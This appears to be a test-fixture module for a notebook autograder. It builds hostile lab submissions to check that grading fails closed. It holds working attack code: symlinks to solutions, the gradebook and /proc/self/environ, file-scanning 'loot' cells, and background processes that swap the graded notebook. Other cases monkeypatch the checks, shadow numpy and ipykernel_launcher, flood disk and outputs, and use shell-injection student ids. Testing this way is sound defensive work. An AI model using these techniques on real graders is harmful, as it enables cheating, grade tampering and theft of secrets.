"""Submissions of lab 03 that attack the grading trust boundary (issue 15), one class of
attack per ``kind`` and several examples of each.

Each case writes a whole submission folder (a notebook, and whatever it puts beside it:
links, FIFOs, modules, sparse files) and says what it must get, judged from outside the
harness by tests/test_hostile_boundary.py:

kind 0   honest students, graded after each class: full marks
kind 1   links beside the notebook (to the solutions, /proc/self/environ, the gradebook, a
         peer's notebook, a folder, hard links), the notebook itself a link, FIFO or folder
kind 2   the kernel plants links in its working folder where the grader writes
kind 3   verdicts that would fail open: the notebook deleted or replaced (by a cell, or by a
         process the cell leaves running), hidden checks that record nothing
kind 4   code beside the notebook that would run before the cells or shadow a module
kind 5   limits: /tmp and the working folder filled, huge outputs of every MIME type
kind 6   process visibility (two probes graded side by side)
kind 7   runaway cells: interrupted at the cell timeout, the kernel kept
kind 10  odd input: a 10 GB sparse file, student ids with spaces, unicode, glob and shell
         characters (the kind-6 probes' ids start with a dash); special files added to a
         folder graded before
         (RERUN_CASES, graded again with and without --force)
"""

from __future__ import annotations

import copy
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from hostile_lab03 import PATCH_COMPARISONS, WRONG_E_STEP, WRONG_LOGLIK, WRONG_M_STEP, honest

ASSIGNMENT = "03-old-faithful"
NOTEBOOK = "old_faithful.ipynb"
ANSWERS = ("e_step", "m_step", "loglik")
POINTS = {"test_e_step": 4, "test_m_step": 4, "test_loglik": 2}
GiB = 1024 ** 3

# Strings whose presence in a graded notebook's outputs, a feedback file or a report means
# content the student must not reach got out (the secret is the test's own, see Where).
PEER = "c01_a_peer"
PEER_MARKER = "PEER-NOTEBOOK-MARKER-5b1e"
LAST_TERM = "lastterm_student"  # graded before this batch, not submitted now (nor matched by c0*)
LAST_TERM_MARKER = "LAST-TERM-GRADED-MARKER-77c3"
OUTSIDE_MARKER = "OUTSIDE-PRIVATE-MARKER-19ad"
SOLUTION_MARKER = "### BEGIN SOLUTION"  # in the source notebook only
REFERENCE_MARKER = "instructor side only"  # autograder/emlab_judge/reference.py's docstring
GRADEBOOK_MARKER = "SQLite format 3"  # the first bytes of the sqlite gradebook


@dataclass(frozen=True)
class Where:
    """The paths a case points at, in the temporary course."""

    course: Path  # the course root
    outside: Path  # a 0600 file outside the course, made by the test
    secret: str  # the value of PGPASSWORD in the harness's environment

    @property
    def autograder(self) -> Path:
        return self.course / "autograder"

    @property
    def gradebook(self) -> Path:
        return self.autograder / "gradebook.db"

    @property
    def solution(self) -> Path:
        return self.course / "solutions" / ASSIGNMENT / NOTEBOOK

    def graded(self, student: str) -> Path:
        return self.autograder / "autograded" / student / ASSIGNMENT / NOTEBOOK


@dataclass
class Case:
    """One submission and what it must get.

    build(folder, release, answers, where) writes the submission folder
    loses: test cells that must score 0 in the gradebook (the others are not checked);
        empty: full marks on every test cell
    ungradable: the submission is reported ungradable, with a reason, and scores 0
    flagged: it must carry a flag (other than UNSANDBOXED)
    says: regexes its reasons and flags must each match
    probe: the outside checks of its graded notebook (see the test): "leak", "markers",
        "procs", "fill", "small", "interrupt", "odd id"
    takes: seconds its cells take by design (a runaway cell's timeout, a probe's wait)
    """

    student: str
    kind: int
    title: str
    build: Callable[[Path, nbformat.NotebookNode, dict, Where], None]
    loses: tuple[str, ...] = ()
    ungradable: bool = False
    flagged: bool = False
    says: tuple[str, ...] = ()
    probe: tuple[str, ...] = ()
    takes: float = 0.0


@dataclass
class RerunCase:
    """A submission graded once, then given special files and graded again (default run,
    then --force): still graded in full, its reasons naming each file (those the machine
    let the test make: a device node needs CAP_MKNOD)."""

    student: str
    title: str
    add: Callable[[Path], None]  # puts the special files in the submission folder
    files: tuple[str, ...]  # their names


# --------------------------------------------------------------------------- notebooks

def _cell(nb, grade_id):
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def write(folder: Path, nb) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / NOTEBOOK
    nbformat.write(nb, path)
    return path


def appended(nb, *sources: str):
    nb = copy.deepcopy(nb)
    nb.cells.extend(nbformat.v4.new_code_cell(s) for s in sources)
    return nb


# --------------------------------------------------------------------------- kind 1: links

# Answer cells that look through every file under the working folder (links followed, and
# folders behind links) for a definition of the graded function and use it: the solution
# notebook, reference.py, the gradebook's stored sources, a peer's notebook. Without one
# they fall back to wrong code, so they score only on what a link brought in.
LOOT = r'''
def _loot(name):
    import json, os, re
    marker = re.compile(r"^\s*#+\s*(BEGIN|END)\s+SOLUTION")
    def block(text):
        start = text.find("def " + name + "(")
        if start < 0:
            return None
        lines = text[start:].splitlines()
        out = [lines[0]]
        for line in lines[1:]:
            if line.strip() and not line[:1].isspace():
                break
            out.append(line)
        return "\n".join(out)
    def sources(text):
        try:
            for cell in json.loads(text).get("cells", []):
                src = cell.get("source", "")
                yield "".join(src) if isinstance(src, list) else src
        except Exception:
            yield text
            yield block(text) or ""
    seen = set()
    for root, dirs, files in os.walk(".", followlinks=True):
        real = os.path.realpath(root)
        if real in seen:
            dirs[:] = []
            continue
        seen.add(real)
        for f in sorted(files):
            path = os.path.join(root, f)
            try:
                with open(path, "rb") as fh:
                    text = fh.read(8_000_000).decode("utf-8", "replace")
            except OSError:
                continue
            if "def " + name + "(" not in text:
                continue
            for src in sources(text):
                if "def " + name + "(" not in src:
                    continue
                src = "\n".join(line for line in src.splitlines() if not marker.match(line))
                ns = dict(globals())
                try:
                    exec(src, ns)
                except Exception:
                    continue
                if callable(ns.get(name)):
                    return ns[name]
    return None
'''

LOOT_ANSWERS = {
    "e_step": LOOT + '''

def _wrong_e_step(X, mu, Sigma, pi):
    return np.full((len(X), len(pi)), 1.0 / len(pi))

e_step = _loot("e_step") or _wrong_e_step
''',
    "m_step": LOOT + "\n" + WRONG_M_STEP.replace("def m_step", "def _wrong_m_step") +
              '\nm_step = _loot("m_step") or _wrong_m_step\n',
    "loglik": LOOT + '''

def _wrong_loglik(X, mu, Sigma, pi):
    return -1.0

loglik = _loot("loglik") or _wrong_loglik
''',
}

# Shows what the files beside the notebook hold: their first bytes and the text around
# words worth stealing (the words built up, so this source does not hold them).
LEAK = r'''
import os
_words = ["BEGIN" + " SOLUTION", "PG" + "PASSWORD", "HIDDEN" + " TESTS", "SQLite", "MARKER", "instructor"]
_seen = set()
for _root, _dirs, _files in os.walk(".", followlinks=True):
    if os.path.realpath(_root) in _seen:
        _dirs[:] = []
        continue
    _seen.add(os.path.realpath(_root))
    for _f in sorted(_files):
        _p = os.path.join(_root, _f)
        if _p == "./old_faithful.ipynb":
            continue
        try:
            with open(_p, "rb") as _fh:
                _data = _fh.read(4_000_000).decode("utf-8", "replace")
        except OSError as _exc:
            print("FILE", _p, "unreadable:", _exc)
            continue
        print("FILE", _p, repr(_data[:300]))
        for _w in _words:
            _i = _data.find(_w)
            if _i >= 0:
                print("  ", _w, repr(_data[max(0, _i - 60):_i + 200]))
'''


def _loot_submission(links: dict[str, Callable[[Where], str]], hard: dict[str, Callable[[Where], Path]] = None):
    """The loot answers and the leak cell, with symbolic links (name -> target) and hard
    links (name -> existing file) beside the notebook."""
    def build(folder, release, good, where):
        write(folder, appended(honest(release, {**good, **LOOT_ANSWERS}), LEAK))
        for name, target in links.items():
            os.symlink(target(where), folder / name)
        for name, target in (hard or {}).items():
            os.link(target(where), folder / name)
    return build


def _honest_with_links(links: dict[str, Callable[[Where], str]]):
    """Honest answers, the leak cell, the links, and a plain folder (which is not copied
    either)."""
    def build(folder, release, good, where):
        write(folder, appended(honest(release, good), LEAK))
        for name, target in links.items():
            os.symlink(target(where), folder / name)
        (folder / "subdir").mkdir()
        (folder / "subdir" / "notes.txt").write_text("a student's own notes\n")
    return build


def _honest(extra_source: str = ""):
    def build(folder, release, good, where):
        answers = dict(good)
        if extra_source:
            answers["e_step"] = good["e_step"] + "\n" + extra_source
        write(folder, honest(release, answers))
    return build


def _notebook_is_link(folder, release, good, where):
    folder.mkdir(parents=True)
    os.symlink(f"../../{PEER}/{ASSIGNMENT}/{NOTEBOOK}", folder / NOTEBOOK)


def _notebook_is_folder(folder, release, good, where):
    write(folder / NOTEBOOK, honest(release, good))  # old_faithful.ipynb/old_faithful.ipynb


def _notebook_is_fifo(folder, release, good, where):
    folder.mkdir(parents=True)
    os.mkfifo(folder / NOTEBOOK)


_RELATIVE_SOLUTION = f"../../../../solutions/{ASSIGNMENT}/{NOTEBOOK}"  # from submitted/<s>/<a>/

# --------------------------------------------------------------------------- kind 2: planted links

PLANT_NAMES = ("judge.json", ".emlab-graded.json", NOTEBOOK, NOTEBOOK.replace(".ipynb", ".html"), "timestamp.txt")


def plant_targets(where: Where) -> list[str]:
    """What planted links point at: the gradebook, a graded notebook of last term's, a
    0600 file outside the course, the peer's graded notebook."""
    return [str(where.gradebook), str(where.graded(LAST_TERM)), str(where.outside), str(where.graded(PEER))]


def _plant_cell(pairs: dict[str, str]) -> str:
    return f'''
import os
for _name, _target in {pairs!r}.items():
    try:
        if os.path.lexists(_name):
            os.remove(_name)
        os.symlink(_target, _name)
        print("planted", _name)
    except OSError as _exc:
        print("could not plant", _name, _exc)
'''


def _rotation(where: Where, k: int) -> dict[str, str]:
    targets = plant_targets(where)
    return {name: targets[(i + k) % len(targets)] for i, name in enumerate(PLANT_NAMES)}


def _plants(k: int, then: str = ""):
    def build(folder, release, good, where):
        cells = [_plant_cell(_rotation(where, k))] + ([then] if then else [])
        write(folder, appended(honest(release, good), *cells))
    return build


# A process the cell leaves running: it waits for the notebook in the working folder to be
# (re)written, by whoever writes it, and then deletes it or puts a folder, a FIFO or a link
# in its place, every time it is written, for five minutes.
DAEMON = r'''
import os, sys, time
path, action, target = sys.argv[1], sys.argv[2], sys.argv[3]
def state():
    try:
        st = os.lstat(path)
        return (st.st_ino, st.st_mtime_ns, st.st_size, st.st_mode)
    except OSError:
        return None
first = state()
deadline = time.time() + 300
while time.time() < deadline:
    now = state()
    if now is not None and now != first and (now[3] & 0o170000) == 0o100000:
        try:
            os.remove(path)
            if action == "dir":
                os.mkdir(path)
            elif action == "fifo":
                os.mkfifo(path)
            elif action == "link":
                os.symlink(target, path)
        except OSError:
            pass
        first = state()
    time.sleep(0.002)
'''


def _daemon_cell(action: str, target: str = "") -> str:
    return f'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", {DAEMON!r}, os.path.abspath({NOTEBOOK!r}), {action!r}, {target!r}],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)
print("left a process running")
'''


def _plant_daemon(folder, release, good, where):
    cells = [_plant_cell({"judge.json": str(where.outside), ".emlab-graded.json": str(where.graded(LAST_TERM)),
                          "timestamp.txt": str(where.gradebook)}),
             _daemon_cell("link", str(where.gradebook))]
    write(folder, appended(honest(release, good), *cells))


# --------------------------------------------------------------------------- kind 3: fail open

CHEAT = {"m_step": WRONG_M_STEP + PATCH_COMPARISONS, "loglik": WRONG_LOGLIK}

IN_CELL = {
    "delete": f"import os\nif os.path.lexists({NOTEBOOK!r}):\n    os.remove({NOTEBOOK!r})\nprint('deleted')",
    "dir": (f"import os\nif os.path.lexists({NOTEBOOK!r}):\n    os.remove({NOTEBOOK!r})\n"
            f"os.mkdir({NOTEBOOK!r})\nopen(os.path.join({NOTEBOOK!r}, 'x'), 'w').close()\nprint('a folder')"),
    "fifo": f"import os\nif os.path.lexists({NOTEBOOK!r}):\n    os.remove({NOTEBOOK!r})\nos.mkfifo({NOTEBOOK!r})\nprint('a FIFO')",
}


def _cheat_then(cell: Callable[[Where], str]):
    def build(folder, release, good, where):
        write(folder, appended(honest(release, {**good, **CHEAT}), cell(where)))
    return build


NO_RECORD = WRONG_E_STEP + '''
import emlab.checks, emlab_grader
emlab.checks.check_e_step = lambda *a, **k: None
_real_check = emlab_grader.check
emlab_grader.check = lambda a, f, func: None if f == "e_step" else _real_check(a, f, func)
'''

# --------------------------------------------------------------------------- kind 4: code beside

MARK = '''
import os as _os
for _d in (_os.getcwd(), "/tmp"):
    try:
        with open(_os.path.join(_d, "MARKER-{name}"), "w") as _f:
            _f.write("ran")
    except OSError:
        pass
'''
_DROP_HERE = '''
import sys as _sys
_here = _os.path.dirname(_os.path.abspath(__file__))
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
'''
_PATCH_NUMPY = "numpy.allclose = lambda *a, **k: True\nnumpy._emlab_patched = \"{name}\"\n"

BESIDE = {
    "ipykernel_launcher.py": MARK + _DROP_HERE + "import numpy\n" + _PATCH_NUMPY +
                             "from ipykernel import kernelapp as _app\n_app.launch_new_instance()\n",
    "sitecustomize.py": MARK + "import numpy\n" + _PATCH_NUMPY,
    "ipython_kernel_config.py": MARK + "c = get_config()\nc.InteractiveShellApp.exec_lines = "
                                "['import numpy', " + repr(_PATCH_NUMPY.replace("\n", "; ").strip("; ")) + "]\n",
    "numpy.py": MARK + _DROP_HERE + 'del _sys.modules["numpy"]\nimport numpy\n' + _PATCH_NUMPY +
                '_sys.modules["numpy"] = numpy\n',
    "emlab_grader.py": MARK + _DROP_HERE + 'del _sys.modules["emlab_grader"]\nimport emlab_grader as _real\n'
                       "import numpy\n" + _PATCH_NUMPY + '_sys.modules["emlab_grader"] = _real\n',
}

PROBE_BESIDE = r'''
import glob, json, os, sys
import numpy, emlab_grader
_cwd = os.getcwd()
_from_cwd = sorted(n for n, m in list(sys.modules.items())
                   if isinstance(getattr(m, "__file__", None), str)
                   and os.path.dirname(os.path.abspath(m.__file__)) == _cwd)
print("PROBE4 " + json.dumps({
    "markers": sorted(glob.glob(os.path.join(_cwd, "MARKER-*")) + glob.glob("/tmp/MARKER-*")),
    "numpy patched": getattr(numpy, "_emlab_patched", None),
    "allclose honest": not bool(numpy.allclose(1.0, 2.0)),
    "modules from cwd": _from_cwd,
    "emlab_grader": os.path.dirname(os.path.abspath(emlab_grader.__file__)) != _cwd,
}))
'''


def _beside(*names: str):
    def build(folder, release, good, where):
        write(folder, appended(honest(release, good), PROBE_BESIDE))
        for name in names:
            (folder / name).write_text(BESIDE[name].replace("{name}", name.removesuffix(".py")))
    return build


# --------------------------------------------------------------------------- kind 5: limits

FILL = r'''
import os
def _fill(folder, label, keep):
    cap, chunk, per_file = int(1.1 * 2**30), 8 * 2**20, 128 * 2**20
    block = b"\0" * chunk
    written, error, paths = 0, "", []
    try:
        while written < cap:
            path = os.path.join(folder, "fill-%d.bin" % len(paths))
            paths.append(path)
            with open(path, "wb") as fh:
                n = 0
                while n < per_file and written < cap:
                    fh.write(block)
                    n += chunk
                    written += chunk
    except (OSError, MemoryError) as exc:
        error = type(exc).__name__
    print("FILLED", label, written, error)
    if not keep:
        for path in paths:
            try:
                os.remove(path)
            except OSError:
                pass
'''

FLOODS = {
    "png and exception": [
        'from IPython.display import display\n'
        'display({"image/png": "iVBORw0KGgo" + "A" * (100 * 2**20)}, raw=True)\n'
        'display({"image/png": "iVBORw0KGgo" + "B" * (100 * 2**20)}, raw=True)',
        'raise ValueError("E" * (50 * 2**20))',
    ],
    "stream": [
        'import sys\nfor _i in range(150):\n    print("y" * 2**20)\nsys.stderr.write("z" * (40 * 2**20))',
    ],
    "mimes": [
        'from IPython.display import display\n_big = "m" * (20 * 2**20)\n'
        'for _mime, _value in [("text/html", "<p>" + _big + "</p>"), ("image/svg+xml", "<svg>" + _big + "</svg>"),\n'
        '                      ("application/json", {"k": _big}), ("text/latex", "$" + _big + "$"),\n'
        '                      ("text/markdown", _big), ("application/javascript", "//" + _big),\n'
        '                      ("image/jpeg", _big), ("application/vnd.custom+json", {"x": _big})]:\n'
        '    display({_mime: _value}, raw=True)',
    ],
    # sent through the kernel's own session, past IPython's display machinery: frames of
    # 160 MB, over the largest message the grader takes (128 MiB)
    "messages": [
        '_k = get_ipython().kernel\n_big = "q" * (160 * 2**20)\n'
        'for _i in range(8):\n'
        '    _k.session.send(_k.iopub_socket, "display_data", {"data": {"text/plain": _big}, "metadata": {}},\n'
        '                    parent=_k.get_parent("shell"))',
    ],
}


def _flood(name: str):
    def build(folder, release, good, where):
        write(folder, appended(honest(release, good), *FLOODS[name]))
    return build


def _huge_sources(folder, release, good, where):
    """A 4 MB code cell and a 2 MB written answer: over what a cell may hold, so the code
    cell is not run (it raises) and the text is dropped; the tamper scan and the sanitiser
    never read them whole."""
    nb = appended(honest(release, good), "x = 1\n" * (4 * 2**20 // 6))
    nb.cells.append(nbformat.v4.new_markdown_cell("A long answer with $x^2$ and [a link](#). " * (2 * 2**20 // 44)))
    write(folder, nb)


def _fill_both(folder, release, good, where):
    """/tmp filled and emptied again, then the working folder filled and left full."""
    write(folder, appended(honest(release, good), FILL + '\n_fill("/tmp", "tmp", False)',
                           'import os\n_fill(os.getcwd(), "cwd", True)'))


# --------------------------------------------------------------------------- kind 6: processes

PROBE_PROCS = r'''
import json, os, time
_others = {others!r}
_me = os.getpid()
_started = globals().setdefault("_probe_started", time.time())
_pids = globals().setdefault("_probe_pids", set())
_foreign = globals().setdefault("_probe_foreign", set())
_not_own = globals().setdefault("_probe_not_own", set())
_until = time.time() + 12
while time.time() < _until:
    _procs = {}
    for _entry in os.listdir("/proc"):
        if not _entry.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % _entry, "rb") as _fh:
                _ppid = int(_fh.read().rpartition(b")")[2].split()[1])
            with open("/proc/%s/cmdline" % _entry, "rb") as _fh:
                _cmd = _fh.read(4000).replace(b"\0", b" ").decode("utf-8", "replace").strip()
        except (OSError, IndexError, ValueError):
            continue
        try:
            _cwd = os.readlink("/proc/%s/cwd" % _entry)
        except OSError:
            _cwd = ""
        _procs[int(_entry)] = (_ppid, _cmd, _cwd)
    _own = {_me}
    for _ in range(8):  # the kernel and whatever it started
        _own |= {p for p, (pp, _c, _w) in _procs.items() if pp in _own}
    for _pid, (_ppid, _cmd, _cwd) in _procs.items():
        _pids.add(_pid)
        _seen = _cmd + " " + _cwd
        if any("/" + _o + "/" in _seen or "=" + _o in _seen for _o in _others):
            _foreign.add(_seen[:200])
        _argv0 = os.path.basename(_cmd.split(" ")[0]) if _cmd else ""
        # bubblewrap: the sandbox's own init; under a warm kernel, the process that holds
        # the sandbox open for it (a child of that init)
        if _pid not in _own and _argv0 != "bwrap" and not (_ppid == 1 and _cmd == "sleep infinity"):
            _not_own.add(_cmd[:160] or "pid %d" % _pid)
    time.sleep(0.5)
print("PROBE6 " + json.dumps({"start": _started, "end": time.time(), "pids": len(_pids),
                              "foreign": sorted(_foreign)[:5], "not own": sorted(_not_own)[:8],
                              "not own count": len(_not_own)}))
'''


def _proc_probe(folder, release, good, where, others=()):
    """Three cells of 12 s each (the cell timeout is 15 s), so that the two probes, graded
    side by side, overlap even when one kernel starts well after the other; the last cell
    prints what all three saw."""
    cell = PROBE_PROCS.replace("{others!r}", repr(list(others)))
    quiet = cell.split("print(")[0]
    write(folder, appended(honest(release, good), quiet, quiet, cell))


# --------------------------------------------------------------------------- kind 7: runaway cells

TOKEN_BEFORE = ('import json, os, random, time\n_token = random.getrandbits(64)\n'
                'print("TOKEN-BEFORE " + json.dumps({"token": _token, "pid": os.getpid(), "t": time.time()}))')
TOKEN_AFTER = ('import json, os, time\n'
               'print("TOKEN-AFTER " + json.dumps({"token": globals().get("_token"), "pid": os.getpid(), '
               '"t": time.time()}))')
CELL_TIMEOUT = 15  # EMLAB_CELL_TIMEOUT of the test: a runaway cell takes this long
RUNAWAY = {"busy loop": "while True:\n    pass", "sleep": "import time\ntime.sleep(3600)",
           "list building": "while True:\n    _x = [i * i for i in range(1000)]"}


def _runaway(what: str):
    def build(folder, release, good, where):
        write(folder, appended(honest(release, good), TOKEN_BEFORE, RUNAWAY[what], TOKEN_AFTER))
    return build


def _runaway_in_answer(folder, release, good, where):
    nb = honest(release, {**good, "loglik": good["loglik"] + "\n\n" + RUNAWAY["busy loop"]})
    index = nb.cells.index(_cell(nb, "loglik"))
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(TOKEN_AFTER))
    nb.cells.insert(index, nbformat.v4.new_code_cell(TOKEN_BEFORE))
    write(folder, nb)


# --------------------------------------------------------------------------- kind 10: odd input

SPARSE_SIZE = 10 * 10 ** 9


def _sparse(folder, release, good, where):
    write(folder, honest(release, good))
    with open(folder / "big.bin", "wb") as fh:
        fh.truncate(SPARSE_SIZE)


# Ids a shell or a glob would take apart; "$(touch ...)", "`...`" and ";" would create these
# files if an id ever reached a shell.
PWNED = ("pwned1", "pwned2", "pwned3")
ODD_IDS = ("c10 with space", "c10_ünï_学生", "c10_[ab]", "c10_*?", "c10_$(touch pwned1);touch pwned2;`touch pwned3`",
           "~c10_tilde", "'c10_quoted'")  # a command line would expand the ~ and strip the quotes
PROBES = ("-c00_probe_a", "-c00_probe_b")  # kind 6, with the leading dash of kind 10


def _odd(student):
    return Case(student, 10, f"student id {student!r}", _honest(), probe=("odd id",))


# --------------------------------------------------------------------------- the batch

def _zz(kind: int) -> Case:
    return Case(f"c{kind:02d}_zz_honest", 0, f"honest, graded after kind {kind}", _honest())


CASES: list[Case] = [
    # kind 6 first: their ids start with a dash (so they sort before every other, and are
    # graded first, side by side in the two grading slots) and are kind 10's leading-dash ids
    Case(PROBES[0], 6, "lists /proc/*/cmdline for 36 s (probe a; its id starts with a dash)",
         lambda f, r, g, w: _proc_probe(f, r, g, w, others=(PROBES[1],)), probe=("procs",), takes=36),
    Case(PROBES[1], 6, "lists /proc/*/cmdline for 36 s (probe b; its id starts with a dash)",
         lambda f, r, g, w: _proc_probe(f, r, g, w, others=(PROBES[0],)), probe=("procs",), takes=36),

    Case(PEER, 0, "honest peer whose notebook others link to", _honest(f"# {PEER_MARKER}")),
    Case("c01_links_solution", 1, "sol.txt -> ../../../../solutions/... (relative), solution.ipynb -> "
         "<course>/solutions/... (absolute), course_solutions -> a linked folder, here -> /proc/self/cwd",
         _loot_submission({"sol.txt": lambda w: _RELATIVE_SOLUTION, "solution.ipynb": lambda w: str(w.solution),
                           "course_solutions": lambda w: "../../../../solutions", "here": lambda w: "/proc/self/cwd"}),
         loses=tuple(POINTS), says=(r"sol\.txt", r"solution\.ipynb", r"course_solutions", r"\bhere\b"),
         probe=("leak",)),
    Case("c01_hardlink", 1, "hard links to the solution notebook and to reference.py",
         _loot_submission({}, hard={"hard_solution.txt": lambda w: w.solution,
                                    "hard_reference.py": lambda w: w.autograder / "emlab_judge" / "reference.py"}),
         loses=tuple(POINTS), says=(r"hard_solution\.txt", r"hard_reference\.py"), probe=("leak",)),
    Case("c01_links_peer_gradebook", 1, "peer.ipynb -> a peer's submitted notebook, gradebook.db -> the "
         "gradebook (absolute), gb2.db -> ../../../gradebook.db",
         _loot_submission({"peer.ipynb": lambda w: f"../../{PEER}/{ASSIGNMENT}/{NOTEBOOK}",
                           "gradebook.db": lambda w: str(w.gradebook), "gb2.db": lambda w: "../../../gradebook.db"}),
         loses=tuple(POINTS), says=(r"peer\.ipynb", r"gradebook\.db", r"gb2\.db"), probe=("leak",)),
    Case("c01_environ", 1, "env.txt -> /proc/self/environ (the grader's secrets); a plain folder subdir/",
         _honest_with_links({"env.txt": lambda w: "/proc/self/environ"}), says=(r"env\.txt",),
         probe=("leak",)),
    Case("c01_notebook_link", 1, "the notebook itself a link to a peer's notebook", _notebook_is_link,
         ungradable=True, says=(r"link",)),
    Case("c01_notebook_dir", 1, "the notebook itself a folder", _notebook_is_folder, ungradable=True,
         says=(r"director|folder",)),

    Case("c02_plant_0", 2, "plants 5 links (judge.json -> gradebook, .emlab-graded.json -> last term's graded "
         "notebook, old_faithful.ipynb -> 0600 file outside, .html -> peer's graded notebook, ...)", _plants(0)),
    Case("c02_plant_1", 2, "plants 5 links (the same names, the targets rotated by one)", _plants(1)),
    Case("c02_plant_daemon", 2, "plants links, leaves a process that turns the notebook into a link to the "
         "gradebook once written", _plant_daemon),
    Case("c02_plant_restart", 2, "plants links, then a runaway cell (a kernel restart would chown them)",
         _plants(2, then=RUNAWAY["busy loop"]), takes=CELL_TIMEOUT),

    Case("c03_cell_delete", 3, "wrong m_step, loglik + patched checks; a cell deletes the notebook",
         _cheat_then(lambda w: IN_CELL["delete"]), loses=("test_m_step", "test_loglik"), flagged=True),
    Case("c03_cell_dir", 3, "same cheat; a cell puts a folder where the notebook is",
         _cheat_then(lambda w: IN_CELL["dir"]), loses=("test_m_step", "test_loglik"), flagged=True),
    Case("c03_daemon_delete", 3, "same cheat; a process left running deletes the notebook once written",
         _cheat_then(lambda w: _daemon_cell("delete")), loses=("test_m_step", "test_loglik"), flagged=True),
    Case("c03_daemon_dir", 3, "same cheat; a process left running puts a folder in its place",
         _cheat_then(lambda w: _daemon_cell("dir")), loses=("test_m_step", "test_loglik"), flagged=True),
    Case("c03_no_record", 3, "wrong e_step; visible check and its hidden check replaced (no record)",
         lambda f, r, g, w: write(f, honest(r, {**g, "e_step": NO_RECORD})), loses=("test_e_step",), flagged=True),
    _zz(3),

    Case("c04_ipykernel_launcher", 4, "ipykernel_launcher.py beside the notebook", _beside("ipykernel_launcher.py"),
         probe=("markers",)),
    Case("c04_numpy", 4, "numpy.py beside the notebook", _beside("numpy.py"), probe=("markers",)),
    Case("c04_all", 4, "ipykernel_launcher.py, sitecustomize.py, ipython_kernel_config.py, numpy.py, "
         "emlab_grader.py beside the notebook", _beside(*BESIDE), probe=("markers",)),

    Case("c05_fill", 5, "writes /tmp, then its working folder, until it fails (up to 1.1 GiB each)", _fill_both,
         probe=("fill", "small")),
    Case("c05_png_exception", 5, "two 100 MB image/png outputs and a 50 MB exception message",
         _flood("png and exception"), probe=("small",)),
    Case("c05_stream", 5, "150 MB on stdout in 1 MB lines, 40 MB on stderr", _flood("stream"), probe=("small",)),
    Case("c05_mimes", 5, "20 MB outputs of eight MIME types", _flood("mimes"), probe=("small",)),
    Case("c05_huge_sources", 5, "a 4 MB code cell and a 2 MB written answer", _huge_sources,
         says=(r"characters, over the",), probe=("small",)),
    # a frame over the limit closes the connection; messages lost while it reconnects can
    # make the cell wait out its time limit and the kernel restart
    Case("c05_messages", 5, "eight 160 MB messages sent through the kernel's session", _flood("messages"),
         probe=("small",), takes=2 * CELL_TIMEOUT),
    _zz(5),

    Case("c07_busy_loop", 7, "while True: pass", _runaway("busy loop"), probe=("interrupt",),
         takes=CELL_TIMEOUT),
    Case("c07_sleep", 7, "time.sleep(3600)", _runaway("sleep"), probe=("interrupt",), takes=CELL_TIMEOUT),
    Case("c07_loop_in_answer", 7, "while True: pass after def loglik in its answer cell", _runaway_in_answer,
         probe=("interrupt",), takes=CELL_TIMEOUT),

    *[_odd(s) for s in ODD_IDS],
    Case("c10_a", 0, "honest, the id c10_[ab] would match as a glob", _honest()),
    Case("c10_sparse", 10, "a 10 GB sparse file beside the notebook", _sparse, says=(r"big\.bin",)),

    # last: today these block a grading slot for ever
    Case("y01_notebook_fifo", 1, "the notebook itself a FIFO", _notebook_is_fifo, ungradable=True,
         says=(r"fifo|pipe|regular",)),
    Case("y03_cell_fifo", 3, "same cheat as c03; a cell puts a FIFO where the notebook is",
         _cheat_then(lambda w: IN_CELL["fifo"]), loses=("test_m_step", "test_loglik"), flagged=True),
    Case("y03_daemon_fifo", 3, "same cheat; a process left running puts a FIFO in its place once written",
         _cheat_then(lambda w: _daemon_cell("fifo")), loses=("test_m_step", "test_loglik"), flagged=True),
    Case("zz_honest_last", 0, "honest, graded last", _honest()),
]


def _link(target: str, name: str):
    def add(folder: Path):
        os.symlink(target, folder / name)
    return add


def _fifo(folder: Path):
    os.mkfifo(folder / "pipe")


def _sparse_file(folder: Path):
    with open(folder / "big.bin", "wb") as fh:
        fh.truncate(SPARSE_SIZE)


def _all(*adds):
    def add(folder: Path):
        for one in adds:
            one(folder)
    return add


def _socket(folder: Path):
    """A Unix socket named `sock` in `folder`. It is bound in a short temporary folder and
    moved into place: a socket's path is limited to 107 bytes, which a test's folder can pass."""
    import socket
    import stat
    import tempfile

    with tempfile.TemporaryDirectory(prefix="s") as short:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(os.path.join(short, "sock"))
            try:
                os.rename(os.path.join(short, "sock"), folder / "sock")
            except OSError:  # another file system: the same kind of inode, unbound
                os.mknod(folder / "sock", stat.S_IFSOCK | 0o600)
    assert stat.S_ISSOCK(os.lstat(folder / "sock").st_mode)


def _device(folder: Path):
    import stat

    try:
        os.mknod(folder / "null.dev", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except OSError:
        pass  # no CAP_MKNOD here: the case goes without it


RERUN_CASES: list[RerunCase] = [
    RerunCase("r_proc", "links to /proc/self/pagemap and /proc/self/mem added",
              _all(_link("/proc/self/pagemap", "pagemap"), _link("/proc/self/mem", "mem")), ("pagemap", "mem")),
    RerunCase("r_dev", "a link to /dev/zero, a FIFO, a socket, a device node and a 10 GB sparse file added",
              _all(_link("/dev/zero", "zero.bin"), _fifo, _socket, _device, _sparse_file),
              ("zero.bin", "pipe", "sock", "null.dev", "big.bin")),
]
RERUN_HONEST = "r_zz_honest"
